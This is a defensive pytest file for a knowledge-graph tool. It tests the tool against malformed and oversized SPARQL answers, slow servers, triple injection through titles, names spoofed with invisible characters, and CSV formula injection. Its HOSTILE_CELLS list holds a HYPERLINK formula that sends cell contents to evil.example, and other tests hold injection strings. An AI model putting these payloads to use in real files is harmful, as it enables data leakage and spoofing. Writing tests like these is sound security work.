"""The clients and the files against hostile input: huge and malformed answers, trickles, crafted titles, names and cells.

Every server here is a real TCP server on 127.0.0.1, started by the test in a
thread; every command runs as a user runs it, in a child process, so its peak
memory and its stderr are its own.
"""

import os
import subprocess
import sys
import time
from pathlib import Path

import pytest
from helpers import HostileServer

from spacegraph.errors import MalformedAnswer, QueryTimeout, TooManyResults
from spacegraph.graph.remote import RemoteEndpoint, push_graph

SRC = Path(__file__).resolve().parent.parent / "src"


# ---------------------------------------------------------------- a server that answers what it is told


def _answering(answer):
    """A behaviour for :class:`HostileServer`: read the request whole, then send what ``answer()`` yields."""

    def behave(connection):
        try:
            head = b""
            while b"\r\n\r\n" not in head:
                data = connection.recv(65536)
                if not data:
                    return
                head += data
            head, _, body = head.partition(b"\r\n\r\n")
            length = next((int(line.split(b":")[1]) for line in head.split(b"\r\n")
                           if line.lower().startswith(b"content-length:")), 0)
            while len(body) < length:
                data = connection.recv(1 << 20)
                if not data:
                    return
                body += data
            if head.startswith(b"HEAD "):
                connection.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n")
                return
            for part in answer():
                connection.sendall(part)
        except OSError:
            pass

    return behave


def _json_answer(*parts):
    """An answer that closes the connection (so ``http.client`` hands its socket to the response), with these parts."""
    def answer():
        yield b"HTTP/1.1 200 OK\r\nContent-Type: application/sparql-results+json\r\nConnection: close\r\n\r\n"
        yield from parts
    return answer


def _empty_bindings(count):
    """SPARQL JSON results of ``count`` empty bindings: 3 bytes each."""
    block = b"{}," * 100_000
    parts = [b'{"head":{"vars":[]},"results":{"bindings":[']
    whole, rest = divmod(count - 1, 100_000)
    parts += [block] * whole + [b"{}," * rest, b"{}]}}"]
    return parts


@pytest.fixture
def serving():
    servers = []

    def start(answer):
        server = HostileServer(_answering(answer))
        servers.append(server)
        return server.url

    yield start
    for server in servers:
        server.close()


def _run(*arguments, timeout=120):
    """Run ``spacegraph ARGUMENTS`` in a child process; return it with its peak resident memory in bytes."""
    # the child's own peak, read by a parent of its own: RUSAGE_CHILDREN of this test process holds every child's
    measure = ("import resource, subprocess, sys; done = subprocess.run(sys.argv[1:]); "
               "print(resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss, file=sys.stderr); sys.exit(done.returncode)")
    env = {**os.environ, "PYTHONPATH": f"{SRC}{os.pathsep}{os.environ.get('PYTHONPATH', '')}"}
    done = subprocess.run([sys.executable, "-c", measure, sys.executable, "-m", "spacegraph.cli", *arguments],
                          capture_output=True, text=True, timeout=timeout, env=env)
    *said, peak = done.stderr.rstrip("\n").split("\n")
    done.stderr = "\n".join(said) + ("\n" if said else "")
    return done, int(peak) * 1024


def _one_line_error(done, *expected):
    assert done.returncode == 1, done.stderr
    assert "Traceback" not in done.stderr
    lines = done.stderr.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("Error: "), done.stderr
    for text in expected:
        assert text in lines[0], lines[0]


# ---------------------------------------------------------------- 1. answers too large


@pytest.mark.slow
def test_millions_of_empty_bindings_take_a_small_multiple_of_the_answer(serving):
    count = 3_000_000  # 9 MB; before the streaming reader, 6 million took 2.5 GB
    big, small = serving(_json_answer(*_empty_bindings(count))), serving(_json_answer(*_empty_bindings(10)))
    command = ["query", "--sparql", "SELECT * WHERE {}", "--format", "csv", "--max-results", str(count)]
    done, peak = _run(*command, "--endpoint", big)
    assert done.returncode == 0, done.stderr
    assert done.stdout.count("\n") == count + 1  # the header and every row
    _, baseline = _run(*command, "--endpoint", small)
    assert peak - baseline < 5 * 3 * count


@pytest.mark.slow
def test_an_answer_with_more_results_than_the_default_cap_ends_in_one_line(serving):
    url = serving(_json_answer(*_empty_bindings(1_000_001)))
    done, peak = _run("query", "--endpoint", url, "--sparql", "SELECT * WHERE {}")
    _one_line_error(done, f"{url} sent more than 1,000,000 results", "raise the limit with --max-results")


@pytest.mark.slow
def test_max_results_bounds_the_library_and_the_projection(serving):
    url = serving(_json_answer(*_empty_bindings(50)))
    with pytest.raises(TooManyResults) as caught:
        RemoteEndpoint(url, max_results=20).run("SELECT * WHERE {}")
    assert caught.value.limit == 20
    done, _ = _run("centrality", "--endpoint", url, "--max-results", "20")
    _one_line_error(done, "sent more than 20 results", "--max-results")


# ---------------------------------------------------------------- 2. answers malformed

MALFORMED = {
    "nested a million deep": [b'{"head":{"vars":["s","o"]},"results":{"bindings":[', b"[" * 1_000_000],
    "head nested a million deep": [b'{"head":', b"[" * 1_000_000],
    "bindings not a list": [b'{"head":{"vars":["s","o"]},"results":{"bindings":{"s":1}}}'],
    "a binding not an object": [b'{"head":{"vars":["s","o"]},"results":{"bindings":[["s"]]}}'],
    "a term without type": [b'{"head":{"vars":["s","o"]},"results":{"bindings":[{"s":{"value":"x"}}]}}'],
    "a term that is a string": [b'{"head":{"vars":["s","o"]},"results":{"bindings":[{"s":"x"}]}}'],
    "a value that is a list": [b'{"head":{"vars":["s","o"]},"results":{"bindings":[{"s":{"type":"uri","value":[]}}]}}'],
    "no variables": [b'{"head":{"vars":[]},"results":{"bindings":[{}]}}'],
    "not JSON": [b'{"head":{"vars":["s","o"]},"results":{"bindings":[{"s":'],
    "not UTF-8": [b'{"head":{"vars":["\xff\xfe"]},"results":{"bindings":[]}}'],
    "a document that is a list": [b"[1, 2]"],
}


@pytest.mark.slow
@pytest.mark.parametrize("parts", MALFORMED.values(), ids=MALFORMED.keys())
def test_a_malformed_answer_ends_the_projection_in_one_line(serving, parts):
    url = serving(_json_answer(*parts))
    with pytest.raises(MalformedAnswer) as caught:
        RemoteEndpoint(url).to_networkx()
    assert str(caught.value).startswith(url) and "\n" not in str(caught.value)
    done, _ = _run("centrality", "--endpoint", url)
    _one_line_error(done, url)


@pytest.mark.slow
@pytest.mark.parametrize("name", ["nested a million deep", "a binding not an object", "a term without type", "not JSON"])
def test_a_malformed_answer_ends_a_query_in_one_line(serving, name):
    url = serving(_json_answer(*MALFORMED[name]))
    done, _ = _run("query", "--endpoint", url, "--sparql", "SELECT * WHERE { ?s ?p ?o }")
    _one_line_error(done, url, "is not SPARQL JSON results")


def test_a_well_formed_answer_in_any_order_is_read_whole(serving):
    """The protocol lets the results come before the head, and variables come in any order in a binding."""
    url = serving(_json_answer(b'{"results":{"bindings":[{"o":{"type":"literal","value":"1"}},',
                               b'{"s":{"type":"uri","value":"http://a"},"o":{"type":"literal","value":"2","xml:lang":"en"}}]},',
                               b'"head":{"vars":["s","o"]}}'))
    rows = list(RemoteEndpoint(url).plain_rows("SELECT ?s ?o WHERE { ?s ?p ?o }"))
    assert rows == [(None, ("L", "1", None, None)), ("http://a", ("L", "2", "en", None))]
    result = RemoteEndpoint(url).run("SELECT ?s ?o WHERE { ?s ?p ?o }")
    assert result.vars == ["s", "o"] and str(result.rows[1].s) == "http://a" and result.rows[0].s is None


# ---------------------------------------------------------------- 3. a trickle after the headers


def _trickle():
    yield b"HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\nConnection: close\r\n\r\n"
    for _ in range(200):
        yield b"x"
        time.sleep(1)


@pytest.mark.slow
def test_push_to_a_trickling_server_ends_at_its_timeout(serving, kg):
    url = serving(_trickle).replace("/query", "/store")
    started = time.monotonic()
    with pytest.raises(QueryTimeout, match="did not answer the upload within 2 s"):
        push_graph(kg.graph, url, timeout=2)
    assert time.monotonic() - started < 10  # a hang guard: before, the trickle held it for minutes
    done, _ = _run("push", "--endpoint", url, "--timeout", "2", timeout=60)
    _one_line_error(done, "did not answer the upload within 2 s")


@pytest.mark.slow
def test_a_query_to_a_trickling_server_ends_at_its_timeout(serving):
    url = serving(_trickle)
    done, _ = _run("query", "--endpoint", url, "--timeout", "2", "--sparql", "ASK {}", timeout=30)
    _one_line_error(done, "2 s")


# ---------------------------------------------------------------- 4. line breaks in a title


@pytest.fixture
def data_dir(tmp_path):
    import shutil

    from spacegraph.core import paths

    folder = tmp_path / "graph_data"
    shutil.copytree(paths.data_dir(), folder, ignore=shutil.ignore_patterns("review"))
    return folder


ARTICLE = Path(__file__).parent / "data" / "ingest" / "article.txt"
INJECTED = 'sgid:china rdfs:comment "INJECTED VIA TITLE" .'
BREAKS = ["\n", "\r", "\v", "\f", "\x1c", "\x1d", "\x1e", "\x85", "\u2028", "\u2029"]


def _cli(*arguments):
    from click.testing import CliRunner

    from spacegraph.cli import main

    return CliRunner().invoke(main, [str(a) for a in arguments])


@pytest.mark.slow
@pytest.mark.parametrize("brk", BREAKS, ids=[f"U+{ord(c):04X}" for c in BREAKS])
def test_a_line_break_in_a_title_stays_in_the_comment_and_the_literal(data_dir, brk):
    from rdflib import Graph, Literal, URIRef

    title = f"Lunar note{brk}{INJECTED}"
    done = _cli("ingest", ARTICLE, "--data-dir", data_dir, "--title", title, "--slug", "lunar-note", "--date", "2025-03-03")
    assert done.exit_code == 0, done.output
    written = data_dir / "lunar-note.ttl"
    lines = written.read_text(encoding="utf-8").splitlines()  # as any Python reader splits the file
    assert not any(line.startswith("sgid:china") for line in lines)
    assert lines[0] == f"# spacegraph data: Lunar note\\{'n' if brk == chr(10) else 'r' if brk == chr(13) else f'u{ord(brk):04X}'}{INJECTED}"
    graph = Graph().parse(written, format="turtle")
    china = URIRef("https://w3id.org/spacegraph/id/china")
    assert (china, None, None) not in graph
    titles = set(graph.objects(URIRef("https://w3id.org/spacegraph/id/lunar-note"), URIRef("http://purl.org/dc/terms/title")))
    assert titles == {Literal(title, lang="en")}  # the title keeps its value, break and all


@pytest.mark.slow
def test_a_title_with_a_line_break_is_accepted_as_data_not_as_triples(data_dir):
    from spacegraph.ingest.sheet import read_sheet, sheet_text

    title = f"Lunar note\u2028{INJECTED}"
    assert _cli("ingest", ARTICLE, "--data-dir", data_dir, "--title", title, "--slug", "lunar-note").exit_code == 0
    sheet = data_dir / "review" / "lunar-note.csv"
    rows = read_sheet(sheet)
    for row in rows:
        row.decision = "reject"
    sheet.write_text(sheet_text(rows), encoding="utf-8")
    done = _cli("accept", sheet, "--data-dir", data_dir)
    assert done.exit_code == 0, done.output
    text = (data_dir / "lunar-note.ttl").read_text(encoding="utf-8")
    assert "INJECTED" in text and not any(line.startswith("sgid:china") for line in text.splitlines())


# ---------------------------------------------------------------- 5. names that pose as others

INVISIBLE = ["\u202e", "\u2066", "\u200f", "\u200b", "\u2060", "\ufeff"]


@pytest.mark.parametrize("hidden", INVISIBLE, ids=[f"U+{ord(c):04X}" for c in INVISIBLE])
def test_a_title_with_an_invisible_character_is_an_argument_error(data_dir, hidden):
    done = _cli("ingest", ARTICLE, "--data-dir", data_dir, "--title", f"Roscos{hidden}mos")
    assert done.exit_code == 2, done.output
    assert f"Invalid value for '--title': title 'Roscos\\u{ord(hidden):04X}mos' holds U+{ord(hidden):04X}" in done.output
    assert not (data_dir / "review").exists()


def test_a_label_with_a_bidirectional_control_fails_validation_naming_file_and_line(data_dir):
    posing = data_dir / "posing.ttl"
    posing.write_text('@prefix sg: <https://w3id.org/spacegraph/ontology#> .\n'
                      '@prefix sgid: <https://w3id.org/spacegraph/id/> .\n'
                      '@prefix rdfs: <http://www.w3.org/2000/01/rdf-schema#> .\n'
                      '@prefix dct: <http://purl.org/dc/terms/> .\n\n'
                      'sgid:posing a sg:Company ;\n    rdfs:label "\u202esomsocsoR"@en ;\n'
                      '    dct:description "A company whose name shows as another\'s." .\n', encoding="utf-8")
    done = _cli("validate", posing, "--sources", data_dir / "sources")
    assert done.exit_code == 1
    assert (f'{posing}:7: [label] sgid:posing has the label "\\u202EsomsocsoR", which holds U+202E RIGHT-TO-LEFT '
            "OVERRIDE") in done.output


@pytest.mark.slow
def test_an_accepted_actor_name_with_a_zero_width_space_names_the_sheet_row(data_dir):
    from spacegraph.ingest.sheet import read_sheet, sheet_text

    assert _cli("ingest", ARTICLE, "--data-dir", data_dir, "--date", "2025-03-03").exit_code == 0
    sheet = next((data_dir / "review").glob("*.csv"))
    rows = read_sheet(sheet)
    actor = next(row for row in rows if row.kind == "actor" and not row.same_as)
    actor.label, actor.decision = "A\u200bSF", "accept"
    sheet.write_text(sheet_text(rows), encoding="utf-8")
    done = _cli("accept", sheet, "--data-dir", data_dir, "--allow-orphans")
    assert done.exit_code == 1
    assert f"{sheet}:{actor.line}: row {actor.number}: name 'A\\u200BSF' holds U+200B ZERO WIDTH SPACE" in done.output


def test_the_shipped_data_has_no_invisible_character_in_a_name(kg):
    from spacegraph.validation import validate

    report = validate(kg)
    assert report.ok and not [p for p in report.problems if "changes how the name shows" in str(p)]


# ---------------------------------------------------------------- 6. documents too long


def _many_pages_pdf(path, pages):
    """Write a minimal PDF of ``pages`` pages, each one line of text, in a flat page tree (100,000 pages: 16 MB)."""
    objects = [b"<< /Type /Catalog /Pages 2 0 R >>", None, b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
               b"<< /Length 44 >>\nstream\nBT /F1 12 Tf 72 720 Td (Page of text.) Tj ET\nendstream"]
    kids = " ".join(f"{len(objects) + 1 + i} 0 R" for i in range(pages)).encode()
    objects[1] = b"<< /Type /Pages /Count %d /Kids [%s] >>" % (pages, kids)
    objects += [b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /Font << /F1 3 0 R >> >> "
                b"/Contents 4 0 R >>"] * pages
    out, offsets = bytearray(b"%PDF-1.4\n"), []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1) + b"".join(b"%010d 00000 n \n" % o for o in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, start)
    path.write_bytes(bytes(out))
    return path


@pytest.mark.slow
def test_a_pdf_of_a_hundred_thousand_pages_is_refused_before_its_text_is_read(tmp_path, data_dir):
    pdf = _many_pages_pdf(tmp_path / "endless.pdf", 100_000)
    done, _ = _run("ingest", pdf, "--data-dir", data_dir, "--dry-run", timeout=60)  # a hang guard: before, past 300 s
    _one_line_error(done, "endless.pdf: has 100,000 pages, more than the 2,000 read", "raise the limit with --max-pages")


def test_max_pages_sets_the_limit(tmp_path):
    from spacegraph.errors import DocumentError
    from spacegraph.ingest.read import read_document

    pdf = _many_pages_pdf(tmp_path / "three.pdf", 3)
    with pytest.raises(DocumentError, match="has 3 pages, more than the 2 read"):
        read_document(pdf, max_pages=2)
    assert read_document(pdf, max_pages=3).blocks == ("Page of text.",) * 3


@pytest.mark.slow
def test_a_one_line_text_is_read_and_normalised_within_a_few_times_its_size(tmp_path):
    line = tmp_path / "line.txt"
    line.write_text("lorem ipsum dolor sit amet " * 1_000_000, encoding="utf-8")  # 27 MB, one line, no sentence end
    measure = ("import resource, sys; from spacegraph.ingest.read import read_document; "
               "from spacegraph.ingest.normalise import normalise_blocks; "
               "before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss; "
               "text = normalise_blocks(read_document(sys.argv[1]).blocks); "
               "print(len(text), (resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before) * 1024)")
    env = {**os.environ, "PYTHONPATH": f"{SRC}{os.pathsep}{os.environ.get('PYTHONPATH', '')}"}
    done = subprocess.run([sys.executable, "-c", measure, str(line)], capture_output=True, text=True, timeout=120, env=env)
    length, grown = map(int, done.stdout.split())
    assert length == 27_000_000 - 1
    assert grown < 5 * line.stat().st_size  # before: words listed whole, 10 times the line


@pytest.mark.slow
def test_ingesting_a_one_line_text_takes_a_few_times_its_size_above_a_small_document(tmp_path, data_dir):
    line = tmp_path / "line.txt"
    # no sentence end, no name; a British spelling, which folding maps back character by character
    line.write_text("lorem ipsum dolor sit amet programme elit " * 200_000, encoding="utf-8")  # 8.4 MB
    small, small_peak = _run("ingest", ARTICLE, "--data-dir", data_dir, "--dry-run")
    done, peak = _run("ingest", line, "--data-dir", data_dir, "--dry-run", timeout=300)  # a hang guard
    assert small.returncode == 0 and done.returncode == 0, done.stderr
    assert done.stderr.startswith("warning: 1 sentence longer than 3,000 characters") and " pieces: " in done.stderr
    assert peak - small_peak < 5 * line.stat().st_size  # before: 790 MB for 10 MB, 50 times the line


def _relationship_sentences(count):
    """``count`` sentences, each naming two known actors and a cue phrase between them: each states one relationship."""
    actors = ["China National Space Administration", "Argentina", "Russia", "Huawei", "SpaceX", "Central Military Commission",
              "International Lunar Research Station", "Senegal", "Xiaomi", "Starlink"]
    verbs = ["hosts", "operates", "partners with", "reports to", "supports", "oversees", "cooperates with"]
    pairs = [(a, b) for a in actors for b in actors if a != b]
    return "".join(f"{pairs[k % len(pairs)][0]} {verbs[k % len(verbs)]} {pairs[k % len(pairs)][1]} in the new programme. "
                   for k in range(count))


@pytest.mark.slow
def test_ingesting_a_long_run_of_relationship_sentences_completes(tmp_path, data_dir):
    text = tmp_path / "relationships.txt"
    text.write_text("Relationship run\n\n" + _relationship_sentences(15_000), encoding="utf-8")  # 1 MB
    # a hang guard, no timing: before, pairs were looked for across every sentence of the text (9.5 minutes for 5 MB)
    done, _ = _run("ingest", text, "--data-dir", data_dir, "--dry-run", timeout=600)
    assert done.returncode == 0, done.stderr
    assert "(relationship-run, 15001 sentences)" in done.stdout
    assert "proposed    0 new actors, 15000 relationships, 0 claims" in done.stdout


# ---------------------------------------------------------------- 7. formulas in CSV cells

HOSTILE_CELLS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1", "-5", "@SUM(A1:A9)", "\tx", "\rx", "'quoted", "plain"]


@pytest.mark.slow
def test_query_results_as_csv_defuse_formulas_and_read_back(serving):
    import csv
    import io
    import json

    from spacegraph.core.csv_cells import restored

    bindings = [{"x": {"type": "literal", "value": value}} for value in HOSTILE_CELLS]
    url = serving(_json_answer(json.dumps({"head": {"vars": ["x"]}, "results": {"bindings": bindings}}).encode()))
    done, _ = _run("query", "--endpoint", url, "--sparql", "SELECT ?x WHERE { ?s ?p ?x }", "--format", "csv")
    assert done.returncode == 0, done.stderr
    cells = [row[0] for row in csv.reader(io.StringIO(done.stdout, newline=""))][1:]
    sent = [value.replace("\r", "\n") for value in HOSTILE_CELLS]  # the child's output is read as text: \r is \n there
    assert cells[:7] == ["'" + value for value in sent[:7]] and cells[7] == "plain"
    assert [restored(cell) for cell in cells] == sent


@pytest.mark.server
@pytest.mark.slow
def test_the_endpoint_answers_csv_with_formulas_defused(spacegraph_endpoint):
    import urllib.parse
    import urllib.request

    query = 'SELECT ?x WHERE { VALUES ?x { "=HYPERLINK(\\"http://evil.example\\")" "-5" "China" } }'
    request = urllib.request.Request(spacegraph_endpoint.rstrip("/") + "/query?" + urllib.parse.urlencode({"query": query}),
                                     headers={"Accept": "text/csv"})
    with urllib.request.urlopen(request, timeout=30) as answer:
        text = answer.read().decode("utf-8")
    assert text.split("\r\n")[1:4] == ['"\'=HYPERLINK(""http://evil.example"")"', "'-5", "China"]


def test_the_network_export_csv_defuses_formulas(tmp_path):
    import csv

    import networkx as nx

    from spacegraph.network.export import export_graph

    G = nx.MultiDiGraph()
    G.add_node("sgid:a", label='=HYPERLINK("http://evil.example")', kind="state")
    G.add_node("sgid:b", label="-5", kind="state")
    G.add_edge("sgid:a", "sgid:b", key="sg:memberOf", label="@member", sources=[])
    written = export_graph(G, tmp_path / "net.csv", "csv")
    by_name = {path.name: path for path in written}
    nodes = list(csv.DictReader(by_name["net-nodes.csv"].open(encoding="utf-8")))
    edges = list(csv.DictReader(by_name["net-edges.csv"].open(encoding="utf-8")))
    assert [row["label"] for row in nodes] == ['\'=HYPERLINK("http://evil.example")', "'-5"]
    assert edges[0]["label"] == "'@member"


def test_the_review_sheet_round_trip_keeps_formula_like_values():
    from spacegraph.ingest.sheet import SheetRow, read_sheet, sheet_text

    rows = [SheetRow(kind="actor", label=value.strip() or "x", id=f"new:{number}", line=number + 2)
            for number, value in enumerate(HOSTILE_CELLS)]
    text = sheet_text(rows)
    assert "\n,actor,\"'=HYPERLINK(" in text and "\n,actor,'-5," in text
    import tempfile

    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "sheet.csv"
        path.write_text(text, encoding="utf-8")
        assert [row.label for row in read_sheet(path)] == [value.strip() or "x" for value in HOSTILE_CELLS]


def test_the_explorer_csv_follows_the_same_rule(tmp_path):
    """The explorer builds its CSV in JavaScript: its cell function, run by Node, defuses what csv_cells.defused does."""
    import json
    import re
    import shutil

    from spacegraph.core.csv_cells import defused

    node = shutil.which("node")
    assert node, "the explorer's rule is checked with Node.js"
    script = (SRC / "spacegraph" / "explorer" / "templates" / "pure.js").read_text(encoding="utf-8")
    cell = re.search(r"  function cell\(value\) \{.*?\n  \}\n", script, re.DOTALL).group()
    values = [value for value in HOSTILE_CELLS if not re.search(r'[",\n\r]', value)]
    program = cell + f"process.stdout.write(JSON.stringify({json.dumps(values)}.map(cell)));"
    done = subprocess.run([node, "-e", program], capture_output=True, text=True, timeout=30)
    assert json.loads(done.stdout) == [defused(value) for value in values]
